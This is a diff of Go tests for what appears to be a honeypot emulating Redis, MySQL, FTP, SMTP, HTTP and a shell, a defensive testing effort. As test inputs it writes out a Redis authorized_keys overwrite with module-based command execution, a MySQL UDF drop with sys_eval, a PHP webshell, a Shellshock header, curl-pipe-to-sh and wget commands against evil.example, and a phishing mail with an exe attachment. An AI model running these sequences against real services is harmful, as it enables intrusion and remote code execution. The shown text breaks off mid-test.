@@ -1,12 +1,21 @@
 package main
 
 import (
+	"archive/zip"
+	"bufio"
 	"bytes"
 	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
 	"fmt"
 	"io"
 	"net"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
 	"runtime"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -108,6 +117,7 @@ func TestMassiveConcurrency(t *testing.T) {
 // TestDataRaceAndIsolation 验证 COW 机制和并发安全性
 // 必须使用 `go test -race` 运行
 func TestDataRaceAndIsolation(t *testing.T) {
+	CaptureDir = t.TempDir()
 	var wg sync.WaitGroup
 	count := 500 // 增加并发数以提高竞争概率
 
@@ -269,12 +279,14 @@ func TestSFTPExtreme(t *testing.T) {
 // 发送垃圾数据、断包数据，确保不 Panic
 func TestProtocolFuzzing(t *testing.T) {
 	fuzzPatterns := [][]byte{
-		{0xFF},                           // Incomplete IAC
-		{0xFF, 0xFA},                     // Incomplete SB
-		{0xFF, 0xFA, 0x1F},               // Incomplete NAWS
-		bytes.Repeat([]byte{0xFF}, 1000), // IAC flood
-		{0x00, 0x01, 0x02, 0x03},         // Random bytes
-		make([]byte, 0),                  // Empty
+		{0xFF},                            // Incomplete IAC
+		{0xFF, 0xFA},                      // Incomplete SB
+		{0xFF, 0xFA, 0x1F},                // Incomplete NAWS
+		bytes.Repeat([]byte{0xFF}, 1000),  // IAC flood
+		{0x00, 0x01, 0x02, 0x03},          // Random bytes
+		make([]byte, 0),                   // Empty
+		[]byte("*-1\r\n*-2147483648\r\n"), // Negative multibulk length
+		[]byte("*1\r\n$-5\r\n"),           // Negative bulk length
 	}
 
 	t.Log("Fuzzing Telnet handler...")
@@ -310,9 +322,85 @@ func TestProtocolFuzzing(t *testing.T) {
 		io.ReadAll(clientConn)
 	}
 
+	t.Log("Fuzzing RSh/RExec/Redis/MySQL/SMTP handlers...")
+	for _, handler := range []func(net.Conn){handleRShConn, handleRExecConn, handleRedisConn, handleMySQLConn, handleSMTPConn} {
+		for _, pattern := range fuzzPatterns {
+			serverConn, clientConn := net.Pipe()
+			go handler(serverConn)
+
+			go func() {
+				clientConn.Write(pattern)
+				time.Sleep(10 * time.Millisecond)
+				clientConn.Close()
+			}()
+
+			io.ReadAll(clientConn)
+		}
+	}
+
 	t.Log("Fuzzing passed (no panics observed).")
 }
 
+// TestAuthPolicy 验证按来源 IP 拒绝前 N 次尝试，以及尝试记录的过期和容量上限
+func TestAuthPolicy(t *testing.T) {
+	a := NewAuthPolicy()
+	a.RejectFirst = 2
+	for i, want := range []bool{false, false, true, true} {
+		if got := a.Check("ssh", "198.51.100.1", "root", "x"); got != want {
+			t.Errorf("attempt %d: got %v, want %v", i+1, got, want)
+		}
+	}
+
+	// 超过 TTL 没有尝试的来源重新计数
+	a.attempts["198.51.100.1"].last = time.Now().Add(-2 * authPeerTTL)
+	if a.Check("ssh", "198.51.100.1", "root", "x") {
+		t.Error("expired peer should start counting again")
+	}
+
+	// 轮换地址的扫描器不会让记录无限增长
+	for i := 0; i < maxAuthPeers+10; i++ {
+		a.Check("ssh", fmt.Sprintf("10.%d.%d.%d", i>>16&255, i>>8&255, i&255), "root", "x")
+	}
+	if n := len(a.attempts); n > maxAuthPeers {
+		t.Errorf("attempts grew to %d entries", n)
+	}
+}
+
+// TestRhostsTrust 验证 .rhosts / hosts.equiv 信任判断
+func TestRhostsTrust(t *testing.T) {
+	fs := NewSessionFS()
+
+	if rhostsTrusted(fs, "root", "root", "10.0.0.5") {
+		t.Fatal("trusted without any rhosts file")
+	}
+
+	fs.Write("/root/.rhosts", []byte("10.0.0.5 alice\n-10.0.0.6\n"), 0600)
+	if !rhostsTrusted(fs, "root", "alice", "10.0.0.5") {
+		t.Error("alice@10.0.0.5 should be trusted by /root/.rhosts")
+	}
+	if rhostsTrusted(fs, "root", "bob", "10.0.0.5") {
+		t.Error("bob@10.0.0.5 should not be trusted")
+	}
+
+	// 组/其他用户可写的 .rhosts 必须被忽略
+	fs.Chmod("/root/.rhosts", 0666)
+	if rhostsTrusted(fs, "root", "alice", "10.0.0.5") {
+		t.Error("world-writable .rhosts must be ignored")
+	}
+
+	// hosts.equiv 不适用于 root，但适用于普通用户 (同名用户)
+	fs.Write("/etc/hosts.equiv", []byte("+\n"), 0644)
+	if rhostsTrusted(fs, "root", "root", "10.0.0.7") {
+		t.Error("hosts.equiv must not apply to root")
+	}
+	if !rhostsTrusted(fs, "user", "user", "10.0.0.7") {
+		t.Error("hosts.equiv '+' should trust same-named user")
+	}
+	if rhostsTrusted(fs, "user", "mallory", "10.0.0.7") {
+		t.Error("hosts.equiv without user field must require matching user names")
+	}
+}
+
 // --- Helpers ---
 
 // MockReadWriter 简单的线程安全 Buffer，实现 io.ReadWriter
@@ -328,3 +416,1557 @@ func (m *MockReadWriter) Read(p []byte) (n int, err error) {
 func (m *MockReadWriter) Write(p []byte) (n int, err error) {
 	return m.Writer.Write(p)
 }
+
+// newTestTerminal 创建测试用的终端，env 为 nil 时只设置 root 的 USER 和 HOME；
+// 返回的 run 执行一行命令，返回它的标准输出和标准错误
+func newTestTerminal(fs *SessionFS, env map[string]string) (*Terminal, func(cmd string) string) {
+	if env == nil {
+		env = map[string]string{"USER": "root", "HOME": "/root"}
+	}
+	term := NewTerminal(&MockReadWriter{Reader: bytes.NewReader(nil), Writer: io.Discard}, fs, env, 80, 24)
+	run := func(cmd string) string {
+		var buf bytes.Buffer
+		term.Stderr = &buf
+		term.runLines(cmd, &buf)
+		return buf.String()
+	}
+	return term, run
+}
+
+// TestFTPSession 通过真实 TCP 连接验证 FTP 登录、被动模式上传/下载与捕获
+func TestFTPSession(t *testing.T) {
+	CaptureDir = t.TempDir()
+
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	go func() {
+		c, err := ln.Accept()
+		if err == nil {
+			handleFTPConn(c)
+		}
+	}()
+
+	c, err := net.Dial("tcp", ln.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	r := bufio.NewReader(c)
+	expect := func(code string) string {
+		t.Helper()
+		for {
+			line, err := r.ReadString('\n')
+			if err != nil {
+				t.Fatalf("read: %v", err)
+			}
+			if strings.HasPrefix(line, code+" ") {
+				return line
+			}
+			if !strings.HasPrefix(line, code+"-") && !strings.HasPrefix(line, " ") {
+				t.Fatalf("want %s, got %q", code, line)
+			}
+		}
+	}
+	send := func(cmd string) { fmt.Fprintf(c, "%s\r\n", cmd) }
+	pasv := func() net.Conn {
+		t.Helper()
+		send("EPSV")
+		line := expect("229")
+		var port int
+		fmt.Sscanf(line[strings.Index(line, "|||")+3:], "%d", &port)
+		dc, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return dc
+	}
+
+	expect("220")
+	send("LIST")
+	expect("530")
+	send("USER root")
+	expect("331")
+	send("PASS toor")
+	expect("230")
+	send("PWD")
+	if line := expect("257"); !strings.Contains(line, `"/root"`) {
+		t.Errorf("unexpected PWD: %q", line)
+	}
+
+	payload := []byte("#!/bin/sh\necho pwned\n")
+	dc := pasv()
+	send("STOR /tmp/ftp_payload.sh")
+	expect("150")
+	dc.Write(payload)
+	dc.Close()
+	expect("226")
+
+	if e, ok := GlobalSessionFS.GetEntry("/tmp/ftp_payload.sh"); !ok || !bytes.Equal(e.Content, payload) {
+		t.Fatal("STOR did not reach SessionFS")
+	}
+	sum := sha256.Sum256(payload)
+	if _, err := os.Stat(filepath.Join(CaptureDir, hex.EncodeToString(sum[:]))); err != nil {
+		t.Errorf("payload not captured: %v", err)
+	}
+
+	dc = pasv()
+	send("RETR /tmp/ftp_payload.sh")
+	expect("150")
+	got, _ := io.ReadAll(dc)
+	dc.Close()
+	expect("226")
+	if !bytes.Equal(got, payload) {
+		t.Errorf("RETR mismatch: %q", got)
+	}
+
+	dc = pasv()
+	send("NLST /tmp")
+	expect("150")
+	listing, _ := io.ReadAll(dc)
+	dc.Close()
+	expect("226")
+	if !strings.Contains(string(listing), "/tmp/ftp_payload.sh") {
+		t.Errorf("NLST missing uploaded file: %q", listing)
+	}
+
+	send("PORT 8,8,8,8,0,80")
+	expect("500")
+	send("QUIT")
+	expect("221")
+}
+
+// TestHTTPWebShell 验证 /var/www/html 中的一句话木马与 Shellshock 会交给虚拟 Shell 执行
+// TestRedisWriteAuthorizedKeys 复现经典的 CONFIG SET dir + SAVE 写公钥攻击
+func TestRedisWriteAuthorizedKeys(t *testing.T) {
+	CaptureDir = t.TempDir()
+	fs := NewSessionFS()
+	db := newRedisStore()
+	db.fs = fs
+
+	serverConn, clientConn := net.Pipe()
+	rc := &redisConn{
+		conn:   serverConn,
+		reader: bufio.NewReader(serverConn),
+		w:      bufio.NewWriter(serverConn),
+		remote: "10.0.0.9",
+		db:     db,
+	}
+	go func() {
+		rc.serve()
+		serverConn.Close()
+	}()
+	defer clientConn.Close()
+
+	r := bufio.NewReader(clientConn)
+	send := func(args ...string) string {
+		var b strings.Builder
+		fmt.Fprintf(&b, "*%d\r\n", len(args))
+		for _, a := range args {
+			fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(a), a)
+		}
+		clientConn.Write([]byte(b.String()))
+		line, _ := r.ReadString('\n')
+		if strings.HasPrefix(line, "$") && line != "$-1\r\n" {
+			var n int
+			fmt.Sscanf(line, "$%d", &n)
+			body := make([]byte, n+2)
+			io.ReadFull(r, body)
+			return string(body[:n])
+		}
+		return strings.TrimSpace(line)
+	}
+
+	// 空数组 (*-1、*0) 与 Redis 一样被忽略，连接继续可用
+	clientConn.Write([]byte("*-1\r\n*0\r\n"))
+	if got := send("PING"); got != "+PONG" {
+		t.Errorf("PING after empty multibulk: %q", got)
+	}
+
+	key := "\n\nssh-rsa AAAAB3NzaC1yc2E attacker@evil\n\n"
+	if got := send("CONFIG", "SET", "dir", "/nonexistent"); !strings.HasPrefix(got, "-ERR Changing directory") {
+		t.Errorf("CONFIG SET dir to missing path: %q", got)
+	}
+	for _, step := range [][]string{
+		{"SET", "x", key},
+		{"CONFIG", "SET", "dir", "/root/.ssh"},
+		{"CONFIG", "SET", "dbfilename", "authorized_keys"},
+		{"SAVE"},
+	} {
+		if got := send(step...); got != "+OK" {
+			t.Fatalf("%v: %q", step, got)
+		}
+	}
+	e, ok := fs.GetEntry("/root/.ssh/authorized_keys")
+	if !ok {
+		t.Fatal("SAVE did not create authorized_keys")
+	}
+	if !bytes.HasPrefix(e.Content, []byte("REDIS0009")) || !bytes.Contains(e.Content, []byte(key)) {
+		t.Errorf("unexpected dump content: %q", e.Content)
+	}
+
+	// 模块未加载时 system.exec 不存在；加载后可执行命令
+	if got := send("system.exec", "id"); !strings.HasPrefix(got, "-ERR unknown command") {
+		t.Errorf("system.exec before MODULE LOAD: %q", got)
+	}
+	fs.Write("/tmp/exp.so", []byte("\x7fELF"), 0755)
+	if got := send("MODULE", "LOAD", "/tmp/exp.so"); got != "+OK" {
+		t.Fatalf("MODULE LOAD: %q", got)
+	}
+	if got := send("system.exec", "id"); !strings.Contains(got, "uid=0(root)") {
+		t.Errorf("system.exec id: %q", got)
+	}
+
+	// 长时间运行的 system.exec 不阻塞其他客户端
+	clientConn.Write([]byte("*2\r\n$11\r\nsystem.exec\r\n$7\r\nsleep 2\r\n"))
+	time.Sleep(50 * time.Millisecond)
+	s2, c2 := net.Pipe()
+	defer c2.Close()
+	go (&redisConn{conn: s2, reader: bufio.NewReader(s2), w: bufio.NewWriter(s2), remote: "10.0.0.10", db: db}).serve()
+	start := time.Now()
+	c2.Write([]byte("PING\r\n"))
+	if line, _ := bufio.NewReader(c2).ReadString('\n'); line != "+PONG\r\n" || time.Since(start) > time.Second {
+		t.Errorf("PING during system.exec: %q after %v", line, time.Since(start))
+	}
+}
+
+// TestMySQLUDF 走完握手后用 DUMPFILE 落地 UDF 并执行命令
+func TestMySQLUDF(t *testing.T) {
+	CaptureDir = t.TempDir()
+	serverConn, clientConn := net.Pipe()
+	mc := &mysqlConn{
+		conn:   serverConn,
+		r:      bufio.NewReader(serverConn),
+		remote: "10.0.0.9",
+		fs:     NewSessionFS(),
+		state:  &mysqlState{databases: map[string]bool{"mysql": true}, udfs: map[string]string{}},
+	}
+	go func() {
+		if mc.handshake() {
+			mc.serve()
+		}
+		serverConn.Close()
+	}()
+	defer clientConn.Close()
+
+	var seq byte
+	readPkt := func() []byte {
+		hdr := make([]byte, 4)
+		if _, err := io.ReadFull(clientConn, hdr); err != nil {
+			t.Fatalf("read packet: %v", err)
+		}
+		body := make([]byte, int(hdr[0])|int(hdr[1])<<8|int(hdr[2])<<16)
+		io.ReadFull(clientConn, body)
+		seq = hdr[3] + 1
+		return body
+	}
+	writePkt := func(p []byte) {
+		clientConn.Write(append([]byte{byte(len(p)), byte(len(p) >> 8), byte(len(p) >> 16), seq}, p...))
+	}
+	query := func(q string) []byte {
+		seq = 0
+		writePkt(append([]byte{comQuery}, q...))
+		return readPkt()
+	}
+
+	greeting := readPkt()
+	if greeting[0] != 0x0a || !bytes.Contains(greeting, []byte(HostPersona.MySQLVersion)) {
+		t.Fatalf("bad greeting: %q", greeting)
+	}
+	resp := []byte{0x00, 0x82, 0x00, 0x00} // PROTOCOL_41 | SECURE_CONNECTION
+	resp = append(resp, make([]byte, 28)...)
+	resp = append(resp, "root\x00"...)
+	resp = append(resp, 0)
+	writePkt(resp)
+	if ok := readPkt(); ok[0] != 0x00 {
+		t.Fatalf("login rejected: %q", ok)
+	}
+
+	if p := query("select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/udf.so'"); p[0] != 0x00 {
+		t.Fatalf("dumpfile: %q", p)
+	}
+	if p := query("select 1 into dumpfile '/usr/lib/mysql/plugin/udf.so'"); p[0] != 0xff || !bytes.Contains(p, []byte("already exists")) {
+		t.Errorf("second dumpfile should fail: %q", p)
+	}
+	if p := query("create function sys_eval returns string soname 'udf.so'"); p[0] != 0x00 {
+		t.Fatalf("create function: %q", p)
+	}
+	if p := query("select sys_eval('id')"); p[0] != 1 {
+		t.Fatalf("sys_eval: %q", p)
+	}
+	var rows bytes.Buffer
+	for eofs := 0; eofs < 2; {
+		// 列定义和数据行各以一个 EOF 结束
+		if p := readPkt(); p[0] == 0xfe && len(p) < 9 {
+			eofs++
+		} else if eofs == 1 {
+			rows.Write(p)
+		}
+	}
+	if !strings.Contains(rows.String(), "uid=113(mysql)") {
+		t.Errorf("sys_eval id: %q", rows.String())
+	}
+}
+
+// TestSMTPRelay 验证认证、投递到 /var/mail 以及附件/URL 提取
+func TestSMTPRelay(t *testing.T) {
+	CaptureDir = t.TempDir()
+	fs := NewSessionFS()
+	serverConn, clientConn := net.Pipe()
+	s := &smtpSession{conn: serverConn, reader: bufio.NewReader(serverConn), fs: fs, remote: "10.0.0.9"}
+	go func() {
+		s.serve()
+		serverConn.Close()
+	}()
+	defer clientConn.Close()
+
+	r := bufio.NewReader(clientConn)
+	expect := func(code string) {
+		t.Helper()
+		for {
+			line, err := r.ReadString('\n')
+			if err != nil {
+				t.Fatalf("waiting for %s: %v", code, err)
+			}
+			if !strings.HasPrefix(line, code) {
+				t.Fatalf("expected %s, got %q", code, line)
+			}
+			if line[3] == ' ' {
+				return
+			}
+		}
+	}
+	send := func(line, code string) {
+		t.Helper()
+		clientConn.Write([]byte(line + "\r\n"))
+		expect(code)
+	}
+
+	expect("220")
+	send("MAIL FROM:<a@b.c>", "503")
+	send("EHLO spam.example", "250")
+	send("AUTH PLAIN "+base64.StdEncoding.EncodeToString([]byte("\x00admin\x00hunter2")), "235")
+	send("MAIL FROM:<spammer@evil.example> SIZE=100", "250")
+	send("RCPT TO:<victim@gmail.com>", "250")
+	send("RCPT TO:<user@"+HostPersona.Hostname+">", "250")
+	send("DATA", "354")
+	msg := "Subject: invoice\r\nMIME-Version: 1.0\r\n" +
+		"Content-Type: multipart/mixed; boundary=XX\r\n\r\n" +
+		"--XX\r\nContent-Type: text/plain\r\n\r\nPay at http://evil.example/pay.\r\n..dot line\r\n" +
+		"--XX\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"inv.exe\"\r\n" +
+		"Content-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAE\r\n--XX--\r\n.\r\n"
+	clientConn.Write([]byte(msg))
+	expect("250")
+	send("QUIT", "221")
+
+	e, ok := fs.GetEntry("/var/mail/user")
+	if !ok {
+		t.Fatal("mail not delivered to /var/mail/user")
+	}
+	if !bytes.HasPrefix(e.Content, []byte("From spammer@evil.example ")) || !bytes.Contains(e.Content, []byte("\n.dot line\n")) {
+		t.Errorf("unexpected mailbox content: %q", e.Content)
+	}
+	if e.UID != 1000 {
+		t.Errorf("mailbox owned by uid %d, want 1000", e.UID)
+	}
+
+	for name, data := range map[string]string{
+		"attachment": "MZ\x90\x00\x03\x00\x00\x00\x04",
+		"urls":       "http://evil.example/pay\n",
+	} {
+		sum := sha256.Sum256([]byte(data))
+		if _, err := os.Stat(filepath.Join(CaptureDir, hex.EncodeToString(sum[:]))); err != nil {
+			t.Errorf("%s not captured: %v", name, err)
+		}
+	}
+}
+
+// TestDownloadSubsystem 验证 wget/curl 通过可替换的 Fetcher 下载、落盘、捕获以及 curl | sh
+func TestDownloadSubsystem(t *testing.T) {
+	CaptureDir = t.TempDir()
+	artifacts := filepath.Join(t.TempDir(), "artifacts")
+	os.WriteFile(filepath.Join(artifacts, "..", "secret"), []byte("host key\n"), 0600)
+	script := []byte("#!/bin/sh\necho pwned > /tmp/flag\n")
+	os.MkdirAll(filepath.Join(artifacts, "evil.example"), 0755)
+	os.WriteFile(filepath.Join(artifacts, "evil.example", "x.sh"), script, 0644)
+
+	saved := DownloadFetcher
+	DownloadFetcher = &ArtifactFetcher{Dir: artifacts, Fallback: SyntheticFetcher{}}
+	defer func() { DownloadFetcher = saved }()
+
+	fs := NewSessionFS()
+	run := func(cmd string) string { return string(RunShellCommand(fs, "10.0.0.9", "root", "/tmp", cmd)) }
+
+	if out := run("wget evil.example/bot"); !strings.Contains(out, "200 OK") {
+		t.Errorf("wget output: %q", out)
+	}
+	if e, ok := fs.GetEntry("/tmp/bot"); !ok || !bytes.HasPrefix(e.Content, []byte("\x7fELF")) {
+		t.Error("wget did not save a synthesised binary to /tmp/bot")
+	}
+	run("wget -q http://evil.example/bot")
+	if _, ok := fs.GetEntry("/tmp/bot.1"); !ok {
+		t.Error("second wget should save as bot.1")
+	}
+
+	run("curl -fsSL http://evil.example/x.sh | sh")
+	if e, ok := fs.GetEntry("/tmp/flag"); !ok || string(e.Content) != "pwned\n" {
+		t.Error("curl | sh did not run the downloaded script")
+	}
+	sum := sha256.Sum256(script)
+	if _, err := os.Stat(filepath.Join(CaptureDir, hex.EncodeToString(sum[:]))); err != nil {
+		t.Errorf("real artifact not captured: %v", err)
+	}
+
+	// /etc/hosts 中映射的 ".." 主机不能读到 Dir 之外的真实文件
+	run("echo '1.2.3.4 ..' >> /etc/hosts")
+	if out := run("curl -s http://../secret"); strings.Contains(out, "host key") {
+		t.Errorf("artifact lookup escaped its directory: %q", out)
+	}
+
+	if out := run("curl http://nohost/x"); !strings.Contains(out, "curl: (6) Could not resolve host: nohost") {
+		t.Errorf("curl DNS failure: %q", out)
+	}
+	if out := run("wget"); !strings.Contains(out, "未指定 URL") {
+		t.Errorf("wget without URL: %q", out)
+	}
+}
+
+func TestHTTPWebShell(t *testing.T) {
+	fs := NewSessionFS()
+	fs.Write("/var/www/html/x.php", []byte("<html><?php system($_GET['c']); ?></html>"), 0644)
+	h := &httpHoneypot{fs: fs}
+
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest("GET", "/x.php?c=id", nil))
+	if body := rec.Body.String(); !strings.Contains(body, "<html>uid=33(www-data)") {
+		t.Errorf("webshell did not run: %q", body)
+	}
+	if got := rec.Header().Get("Server"); got != HostPersona.HTTPServer {
+		t.Errorf("unexpected Server header %q", got)
+	}
+
+	rec = httptest.NewRecorder()
+	req := httptest.NewRequest("GET", "/cgi-bin/status", nil)
+	req.Header.Set("User-Agent", "() { :; }; echo; /bin/bash -c 'cat /etc/hostname'")
+	h.ServeHTTP(rec, req)
+	if body := rec.Body.String(); body != HostPersona.Hostname+"\n" {
+		t.Errorf("shellshock output mismatch: %q", body)
+	}
+
+	rec = httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest("GET", "/nope", nil))
+	if rec.Code != 404 || !strings.Contains(rec.Body.String(), "<h1>Not Found</h1>") {
+		t.Errorf("unexpected 404 page: %d %q", rec.Code, rec.Body.String())
+	}
+}
+
+func TestProcessTable(t *testing.T) {
+	var out bytes.Buffer
+	rw := &struct {
+		io.Reader
+		io.Writer
+	}{bytes.NewReader(nil), &out}
+	term := NewTerminal(rw, NewSessionFS(), map[string]string{"USER": "root", "HOME": "/root"}, 80, 24)
+	term.Stderr = &out
+	defer Procs.Login(term, "root", term.Env)()
+	run := func(cmd string) string {
+		out.Reset()
+		term.execPipelineTo(cmd, &out)
+		return out.String()
+	}
+
+	ps := run("ps aux")
+	if !strings.Contains(ps, "USER         PID %CPU %MEM") || !strings.Contains(ps, term.tty) {
+		t.Errorf("ps aux output: %q", ps)
+	}
+	if !strings.Contains(ps, "/usr/sbin/mysqld") || !strings.Contains(ps, "[kthreadd]") {
+		t.Error("ps aux missing seeded daemons")
+	}
+	if got := run("ps -o pid= -p " + strconv.Itoa(term.pid)); strings.TrimSpace(got) != strconv.Itoa(term.pid) {
+		t.Errorf("ps -o pid= -p: %q", got)
+	}
+	if got := run("pgrep -x redis-server"); strings.TrimSpace(got) != "861" {
+		t.Errorf("pgrep: %q", got)
+	}
+
+	// 空参数被跳过；内置命令里的 panic 只让这一条命令像段错误一样退出
+	if got := run("echo | ps '' -o pid= -p 1"); strings.TrimSpace(got) != "1" {
+		t.Errorf("ps with an empty argument: %q", got)
+	}
+	out.Reset()
+	func() {
+		defer term.recoverCommand("ps")
+		panic("boom")
+	}()
+	if out.String() != "段错误 (核心已转储)\n" || term.lastExitCode != 139 {
+		t.Errorf("recovered command: %q, exit %d", out.String(), term.lastExitCode)
+	}
+	if got := run("cat /proc/" + strconv.Itoa(term.pid) + "/cmdline"); !strings.HasPrefix(got, "-bash\x00") {
+		t.Errorf("/proc/<pid>/cmdline: %q", got)
+	}
+
+	run("kill -STOP 845")
+	if p, _ := Procs.Get(845); !strings.HasPrefix(p.Stat, "T") {
+		t.Errorf("SIGSTOP not applied, stat %q", p.Stat)
+	}
+	run("kill -CONT 845")
+	if got := run("kill -9 999999"); !strings.Contains(got, "没有那个进程") {
+		t.Errorf("kill of missing pid: %q", got)
+	}
+
+	run("kill $$")
+	if !term.Running {
+		t.Error("interactive shell should ignore SIGTERM")
+	}
+	run("kill -9 $$")
+	if term.Running {
+		t.Error("kill -9 $$ should end the session")
+	}
+}
+
+func TestJobControl(t *testing.T) {
+	var out bytes.Buffer
+	var mu sync.Mutex
+	rw := &struct {
+		io.Reader
+		io.Writer
+	}{bytes.NewReader(nil), writerFunc(func(p []byte) (int, error) {
+		mu.Lock()
+		defer mu.Unlock()
+		return out.Write(p)
+	})}
+	term := NewTerminal(rw, NewSessionFS(), map[string]string{"USER": "root", "HOME": "/root"}, 80, 24)
+	defer Procs.Login(term, "root", term.Env)()
+	run := func(cmd string) string {
+		mu.Lock()
+		out.Reset()
+		mu.Unlock()
+		term.runForeground(cmd)
+		term.reportJobs(&CRLFWriter{w: rw})
+		mu.Lock()
+		defer mu.Unlock()
+		return strings.ReplaceAll(out.String(), "\r\n", "\n")
+	}
+
+	got := run("sleep 100 &")
+	if !strings.HasPrefix(got, "[1] ") {
+		t.Fatalf("background notification: %q", got)
+	}
+	if got := run("jobs"); !strings.Contains(got, "[1]+  运行中") || !strings.Contains(got, "sleep 100 &") {
+		t.Errorf("jobs: %q", got)
+	}
+	if got := run("ps -o comm="); !strings.Contains(got, "sleep") {
+		t.Errorf("background job missing from ps: %q", got)
+	}
+	if got := run("kill %1"); !strings.Contains(got, "已终止") {
+		t.Errorf("kill %%1: %q", got)
+	}
+
+	// 前台作业被 Ctrl-Z 挂起，再用 bg 放到后台
+	go func() {
+		time.Sleep(200 * time.Millisecond)
+		term.interruptForeground(26)
+	}()
+	if got := run("sleep 100"); !strings.Contains(got, "已停止") {
+		t.Errorf("Ctrl-Z: %q", got)
+	}
+	if got := run("bg"); !strings.Contains(got, "sleep 100 &") {
+		t.Errorf("bg: %q", got)
+	}
+	run("kill -9 %1")
+
+	run("nohup echo hi &")
+	time.Sleep(100 * time.Millisecond)
+	if e, ok := term.FS.GetEntry("/root/nohup.out"); !ok || string(e.Content) != "hi\n" {
+		t.Error("nohup did not write nohup.out")
+	}
+
+	// 下载的程序没有执行位时无法运行，chmod +x 后即可放到后台
+	run("echo 'echo mined' > /tmp/x")
+	if got := run("/tmp/x; echo $?"); got != "bash: /tmp/x: 权限不够\n126\n" {
+		t.Errorf("running non-executable file: %q", got)
+	}
+	run("cd /tmp; chmod +x x; nohup ./x &")
+	time.Sleep(100 * time.Millisecond)
+	if e, ok := term.FS.GetEntry("/tmp/nohup.out"); !ok || string(e.Content) != "mined\n" {
+		t.Error("chmod +x; nohup ./x did not run the program")
+	}
+
+	// 后台作业的标准输出和标准错误都丢弃时终端上只有作业号
+	run("echo 'ls /nope' > /tmp/y; chmod +x y")
+	if got := run("./y >/dev/null 2>&1 &"); !strings.HasPrefix(got, "[1] ") || strings.Contains(got, "无法访问") {
+		t.Errorf("background job with stderr redirected: %q", got)
+	}
+	time.Sleep(100 * time.Millisecond)
+	if got := run("true"); strings.Contains(got, "无法访问") {
+		t.Errorf("redirected stderr leaked to the terminal: %q", got)
+	}
+}
+
+type writerFunc func(p []byte) (int, error)
+
+func (f writerFunc) Write(p []byte) (int, error) { return f(p) }
+
+func TestLineEditor(t *testing.T) {
+	var out bytes.Buffer
+	rw := &struct {
+		io.Reader
+		io.Writer
+	}{bytes.NewReader(nil), &out}
+	term := NewTerminal(rw, NewSessionFS(), map[string]string{"USER": "root", "HOME": "/root", "PS1": `\u@\h:\w\$ `}, 20, 24)
+	term.History = []string{"cat /etc/passwd", "uname -a", "ls -la /tmp"}
+	term.histPos = len(term.History)
+	typeKeys := func(s string) editResult {
+		res := editContinue
+		for _, r := range s {
+			if ev, ok := term.keys.feed(r); ok {
+				res = term.handleKey(ev)
+			}
+		}
+		return res
+	}
+	line := func() string { return string(term.buffer) }
+
+	// Ctrl-A 回到行首，Ctrl-K 剪切，Ctrl-E 到行尾后 Ctrl-Y 粘贴
+	typeKeys("echo world hello\x1b[D\x1b[D\x1b[D\x1b[D\x1b[D\x0b\x01echo \x05 \x19")
+	if got := line(); got != "echo echo world  hello" {
+		t.Errorf("kill/yank: %q", got)
+	}
+	// Home/End/Delete 的多字节序列、Alt-b 和 Ctrl-W
+	typeKeys("\x1b[H\x1b[3~\x1b[F\x1bb\x17")
+	if got := line(); got != "cho echo hello" || term.cursor != len("cho echo ") {
+		t.Errorf("home/delete/word: %q cursor %d", got, term.cursor)
+	}
+
+	// Ctrl-R 反向搜索，回车接受匹配
+	term.buffer, term.cursor = term.buffer[:0], 0
+	if res := typeKeys("\x12una\r"); res != editSubmit || line() != "uname -a" {
+		t.Errorf("reverse-i-search: %q", line())
+	}
+	if !strings.Contains(out.String(), "(reverse-i-search)`una': uname -a") {
+		t.Errorf("search prompt not drawn: %q", out.String())
+	}
+
+	// 括号粘贴中的换行不会提交，宽字符按两列计算折行
+	term.buffer, term.cursor = term.buffer[:0], 0
+	if res := typeKeys("\x1b[200~echo 1\recho 中文中文中文中文\x1b[201~"); res != editContinue {
+		t.Error("pasted newline submitted the line")
+	}
+	if got := line(); got != "echo 1\necho 中文中文中文中文" {
+		t.Errorf("paste: %q", got)
+	}
+	if term.editRow != 3 {
+		t.Errorf("wrapped row: %d", term.editRow)
+	}
+	if runeWidth('中') != 2 || visibleWidth("\033[1;32mroot\033[0m") != 4 {
+		t.Error("width calculation")
+	}
+}
+
+func TestBashHistory(t *testing.T) {
+	var out bytes.Buffer
+	rw := &struct {
+		io.Reader
+		io.Writer
+	}{bytes.NewReader(nil), &out}
+	fs := NewSessionFS()
+	term := NewTerminal(rw, fs, map[string]string{"USER": "root", "HOME": "/root", "HISTCONTROL": "ignorespace"}, 80, 24)
+	term.Stderr = &out
+	term.loadHistory()
+	if len(term.History) != len(HostPersona.RootHistory) {
+		t.Fatalf("seeded history not loaded: %d entries", len(term.History))
+	}
+	submit := func(line string) string {
+		out.Reset()
+		expanded, err := term.expandHistory(line)
+		if err != nil {
+			return err.Error()
+		}
+		term.addHistory(expanded)
+		term.execPipelineTo(expanded, &out)
+		return out.String()
+	}
+
+	submit("echo first")
+	if got := submit("!!"); got != "first\n" {
+		t.Errorf("!!: %q", got)
+	}
+	if got := submit("!ech"); got != "first\n" {
+		t.Errorf("!prefix: %q", got)
+	}
+	if got := submit("echo !1"); got != "apt update\n" {
+		t.Errorf("!n: %q", got)
+	}
+	if got := submit("!nosuch"); !strings.Contains(got, "未找到事件") {
+		t.Errorf("missing event: %q", got)
+	}
+	submit(" echo secret")
+	if got := submit("history 2"); strings.Contains(got, "secret") || !strings.Contains(got, "history 2") {
+		t.Errorf("ignorespace: %q", got)
+	}
+
+	term.saveHistory()
+	e, _ := fs.GetEntry("/root/.bash_history")
+	if !strings.HasSuffix(string(e.Content), "echo first\necho apt update\nhistory 2\n") || strings.Contains(string(e.Content), "secret") {
+		t.Errorf("history file: %q", e.Content)
+	}
+
+	// 清除痕迹：history -c 后 -w 覆盖文件，unset HISTFILE 后不再写入
+	submit("history -c")
+	submit("history -w")
